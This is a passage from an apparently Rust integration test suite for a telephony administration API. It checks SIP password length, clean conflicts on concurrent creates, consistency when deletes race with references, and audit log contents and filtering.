        assert_eq!(passwd.len(), 32, "PWDLEN is 32 but the generated SIP password has {} characters", passwd.len());
    }
}

// ---------------------------------------------------------------------------------------
// Concurrency
// ---------------------------------------------------------------------------------------

async fn concurrently(s: &Server, requests: Vec<(&'static str, Value)>) -> Vec<Resp> {
    let tasks: Vec<_> = requests
        .into_iter()
        .map(|(path, body)| {
            let api = s.api.clone();
            tokio::spawn(async move { api.post_json(path, &body).await })
        })
        .collect();
    let mut out = Vec::new();
    for task in tasks {
        out.push(task.await.expect("request task"));
    }
    out
}

#[track_caller]
fn exactly_one_wins(resps: &[Resp], what: &str) {
    let won = resps.iter().filter(|r| r.status == 200).count();
    let lost = resps.iter().filter(|r| r.status == 409).count();
    assert_eq!((won, lost), (1, resps.len() - 1), "{what}: {:?}", resps.iter().map(|r| (r.status, r.text.clone())).collect::<Vec<_>>());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_creates_of_one_key_conflict_cleanly() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let same_queue = (0..10).map(|_| ("queues", json!({"pkey": "race", "cluster": "default"}))).collect();
        exactly_one_wins(&concurrently(&s, same_queue).await, "10 creates of queue race");
        let same_tenant = (0..10).map(|_| ("tenants", json!({"pkey": "race", "description": "x"}))).collect();
        exactly_one_wins(&concurrently(&s, same_tenant).await, "10 creates of tenant race");
        let same_name: Vec<(&'static str, Value)> = (0..10)
            .map(|i| match i % 3 {
                0 => ("queues", json!({"pkey": "shared", "cluster": "default"})),
                1 => ("ringgroups", json!({"pkey": "shared", "cluster": "default", "outcome": "Hangup"})),
                _ => ("ivrs", json!({"pkey": "shared", "cluster": "default"})),
            })
            .collect();
        exactly_one_wins(&concurrently(&s, same_name).await, "queue/ring group/IVR named shared");
        let dest = s.get("destinations").await;
        let count = ["Queues", "RingGroups", "IVRs"]
            .iter()
            .map(|g| dest[*g].as_array().map_or(0, |a| a.iter().filter(|n| *n == "shared").count()))
            .sum::<usize>();
        assert_eq!(count, 1, "the name shared resolves {count} times: {}", dest.text);
        assert_healthy_after(&s).await;
    }
}

/// A delete racing creates that refer to the item: never a dangling reference.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deleting_while_others_refer_stays_consistent() {
    for backend in backends() {
        let s = Server::start(backend).await;
        for round in 0..5 {
            let queue = format!("q{round}");
            s.post_json("queues", &json!({"pkey": queue, "cluster": "default"})).await.expect(200);
            let mut tasks = Vec::new();
            for n in 0..5 {
                let api = s.api.clone();
                let body = json!({"pkey": format!("{}", 3000 + round * 10 + n), "cluster": "default", "name": "racer", "queue1": queue});
                tasks.push(tokio::spawn(async move { api.post_json("agents", &body).await }));
            }
            let api = s.api.clone();
            let path = format!("queues/{queue}");
            let deletion = tokio::spawn(async move { api.delete(&path).await });
            for task in tasks {
                let resp = task.await.expect("task");
                assert!(resp.status == 200 || resp.status == 422, "agent create racing a delete: {} {}", resp.status, resp.text);
            }
            let deletion = deletion.await.expect("task");
            assert!(deletion.status == 204 || deletion.status == 409, "delete racing creates: {} {}", deletion.status, deletion.text);
            let queue_exists = s.get(&format!("queues/{queue}")).await.status == 200;
            let users = s.get("agents").await.array().iter().filter(|a| a["queue1"] == json!(queue)).count();
            assert!(queue_exists || users == 0, "{users} agents refer to the deleted queue {queue}");
        }
    }
}

async fn assert_healthy_after(s: &Server) {
    s.anonymous().get("/healthz").await.expect(200);
    s.get("tenants").await.expect(200);
}

// ---------------------------------------------------------------------------------------
// Audit log
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_log_records_who_changed_what_newest_first() {
    for backend in backends() {
        let s = Server::start(backend).await;
        create_acme(&s).await;
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.put_json("extensions/1001", &json!({"desc": "Front desk"})).await.expect(200);
        s.delete("extensions/1001").await.expect(204);

        let log = s.get("auditlog?limit=3").await;
        let entries = log.expect(200).array();
        let actions: Vec<&Value> = entries.iter().map(|e| &e["action"]).collect();
        assert_eq!(actions, [&json!("delete"), &json!("update"), &json!("create")], "newest first: {}", log.text);
        for entry in entries {
            assert_eq!(entry["resource"], "extensions");
            assert_eq!(entry["key"], "1001");
            assert_eq!(entry["cluster"], "default");
            assert_eq!(entry["actor"], "admin-token");
            assert_eq!(entry["remote"], "127.0.0.1", "{entry}");
        }
        let (delete, update, create) = (&entries[0], &entries[1], &entries[2]);
        assert_eq!((&create["before"], &create["after"]["pkey"]), (&Value::Null, &json!("1001")));
        assert_eq!((&update["before"]["desc"], &update["after"]["desc"]), (&Value::Null, &json!("Front desk")));
        assert_eq!((&delete["before"]["desc"], &delete["after"]), (&json!("Front desk"), &Value::Null));
        let second = s.get("auditlog?limit=1&offset=1").await;
        assert_eq!(second.expect(200).array()[0]["action"], "update");

        // Keys are named in the log; reads are not logged; filters work.
        let token = s.create_key(&["--role", "admin"]).await;
        let key_id = token.trim_start_matches("sb_").split('.').next().unwrap_or_default().to_owned();
        let total = s.get("auditlog").await.array().len();
        s.as_key(&token).get("extensions").await.expect(200);
        assert_eq!(s.get("auditlog").await.array().len(), total, "a read was logged");
        s.as_key(&token).post_json("queues", &json!({"pkey": "q1", "cluster": "acme"})).await.expect(200);
        let newest = s.get("auditlog?limit=1").await;
        assert_eq!(newest.expect(200).array()[0]["actor"], json!(format!("key:{key_id}")), "{}", newest.text);
        let acme = s.get("auditlog?cluster=acme").await;
        assert!(acme.expect(200).array().iter().all(|e| e["cluster"] == "acme") && !acme.array().is_empty(), "{}", acme.text);
        let queues = s.get("auditlog?resource=queues").await;
        assert_eq!(queues.expect(200).array().len(), 1, "{}", queues.text);
    }
}
